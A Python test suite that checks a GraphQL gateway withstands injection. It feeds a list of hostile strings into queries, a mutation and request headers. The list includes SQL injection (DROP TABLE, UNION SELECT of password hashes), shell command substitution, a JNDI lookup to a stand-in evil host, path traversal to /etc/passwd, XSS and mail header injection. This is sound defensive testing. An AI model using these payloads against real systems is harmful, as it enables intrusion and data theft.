"""Texts that mean something to a database, a shell, a page or a mail are texts here, found and kept as they are."""

from collections.abc import Callable
from typing import Any

import anyio
import pytest
from sqlalchemy import func, select

from datasources.database.engine import Database
from datasources.database.tables.gateway import businesses, organizations, users
from tests.security.client import ask, data, new_place
from tests.serving import ADA, GRACE, Running

HOSTILE = [
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    '"; DELETE FROM organizations; --',
    "1) UNION SELECT password_hash FROM users --",
    "%' AND password_hash LIKE '$argon2%",
    "\\' OR 1=1 #",
    "_%",
    "%",
    "\\",
    "$(reboot) `reboot` | reboot; ${jndi:ldap://evil.example.com/a}",
    "../../../../etc/passwd",
    "{{7*7}} {% debug %} ${7*7} <%= 7*7 %>",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "Bcc: somebody@evil.example.com\r\nX: y",
    "\u202eenoyreve \ufeff\u200b e\u0301 \ufb01 \ud7ff",
    "{$gt: ''}",
    ":parameter %(parameter)s %s ? $1",
]

FIELDS: dict[str, tuple[str, Callable[[str], dict[str, Any]]]] = {
    "node": ("query ($v: ID!) { found: node(id: $v) { id } }", lambda v: {"v": v}),
    "nodes": ("query ($v: [ID!]!) { found: nodes(ids: $v) { id } }", lambda v: {"v": [v, v]}),
    "business": ("query ($v: ID!) { found: business(id: $v) { id } }", lambda v: {"v": v}),
    "businesses": (
        "query ($v: String) { found: businesses(filter: {search: $v}) { nodes { id name } } }",
        lambda v: {"v": v},
    ),
    "campaigns": (
        "query ($v: String, $i: [ID!]) { found: campaigns(filter: {search: $v, businessIds: $i}) { nodes { id } } }",
        lambda v: {"v": v, "i": [v]},
    ),
    "orders": (
        "query ($v: [String!], $id: ID) { found: orders(filter: {platforms: $v, customerId: $id}) { nodes { id } } }",
        lambda v: {"v": [v], "id": v},
    ),
    "prompts": (
        (
            "query ($v: String, $l: [String!]) {"
            " found: prompts(search: $v, filter: {category: $l, tags: $l, models: $l}) { nodes { id } } }"
        ),
        lambda v: {"v": v, "l": [v]},
    ),
    "prompt": ("query ($v: String!) { found: promptBySlug(slug: $v) { id } }", lambda v: {"v": v}),
    "after": ("query ($v: String) { found: prompts(after: $v) { nodes { id } } }", lambda v: {"v": v}),
    "auditLog": (
        "query ($v: String, $l: [String!]) { found: auditLog(filter: {actor: $v, actions: $l}) { nodes { id } } }",
        lambda v: {"v": v, "l": [v]},
    ),
}
NOTHING: tuple[Any, ...] = (None, [None, None], {"nodes": []})
QUIET = {"BAD_REQUEST", "NOT_FOUND", "FORBIDDEN"}


def counts(database_url: str) -> list[int]:
    """How many rows there are of what an injection would go for first."""

    async def read() -> list[int]:
        database = Database(database_url, pool_size=1)
        try:
            async with database.writer.connect() as connection:
                tables = (users, organizations, businesses)
                found = [await connection.scalar(select(func.count()).select_from(table)) for table in tables]
                return [each or 0 for each in found]
        finally:
            await database.close()

    return anyio.run(read)


@pytest.mark.parametrize("field", FIELDS)
def test_a_hostile_text_finds_nothing_and_breaks_nothing(gateway: Running, field: str) -> None:
    query, variables = FIELDS[field]
    before = counts(gateway.database_url)
    for text in HOSTILE:
        answer = gateway.query(query, variables(text), as_=ADA)
        codes = {error["extensions"]["code"] for error in answer.get("errors", ())}
        assert codes <= QUIET, (text, answer)
        assert codes or answer["data"]["found"] in NOTHING, (text, answer)
    assert counts(gateway.database_url) == before


RENAME = """mutation ($input: UpdateOrganizationInput!) {
  updateOrganization(input: $input) { organization { name } userErrors { code } }
}"""


def test_a_hostile_name_is_kept_as_it_was_written_or_refused(gateway: Running) -> None:
    others = gateway.data("{ organization { name } }", as_=ADA)
    for text in HOSTILE:
        answer = gateway.data(RENAME, {"input": {"name": text}}, as_=GRACE)["updateOrganization"]
        if not answer["userErrors"]:
            assert answer["organization"]["name"] == text.strip()
            assert gateway.data("{ organization { name } }", as_=GRACE) == {"organization": {"name": text.strip()}}
    assert gateway.data("{ organization { name } }", as_=ADA) == others


@pytest.mark.parametrize("header", ["authorization", "x_api_key", "x_organization_id", "cookie", "user_agent"])
def test_a_hostile_header_is_nobodys(gateway: Running, header: str) -> None:
    before = counts(gateway.database_url)
    for text in HOSTILE:
        value = text.encode("ascii", "ignore").decode().replace("\r", "").replace("\n", "")
        sent = (
            {"cookie": f"__Host-tributary-access={value}".strip()}
            if header == "cookie"
            else {header: f" {value}".strip()}
        )
        answer = ask(gateway, "{ viewer { id } }", place=new_place(), more=sent)
        assert answer.status_code in (200, 401, 403), (text, answer.text)
        assert answer.json()["errors"][0]["extensions"]["code"] in ("UNAUTHENTICATED", "FORBIDDEN")
    assert counts(gateway.database_url) == before


def test_a_search_finds_signs_that_mean_something_to_like_as_themselves(gateway: Running) -> None:
    """One business is found by its name, and not by signs that would stand for any name."""
    query, variables = FIELDS["businesses"]
    (first, *_) = data(ask(gateway, "{ businesses(first: 1) { nodes { name } } }", authorization=bearer(gateway)))[
        "businesses"
    ]["nodes"]
    found = gateway.data(query, variables(first["name"]), as_=ADA)["found"]["nodes"]
    assert [each["name"] for each in found] == [first["name"]]


def bearer(gateway: Running) -> str:
    """Ada's authorization."""
    return f"Bearer {gateway.token(ADA)}"
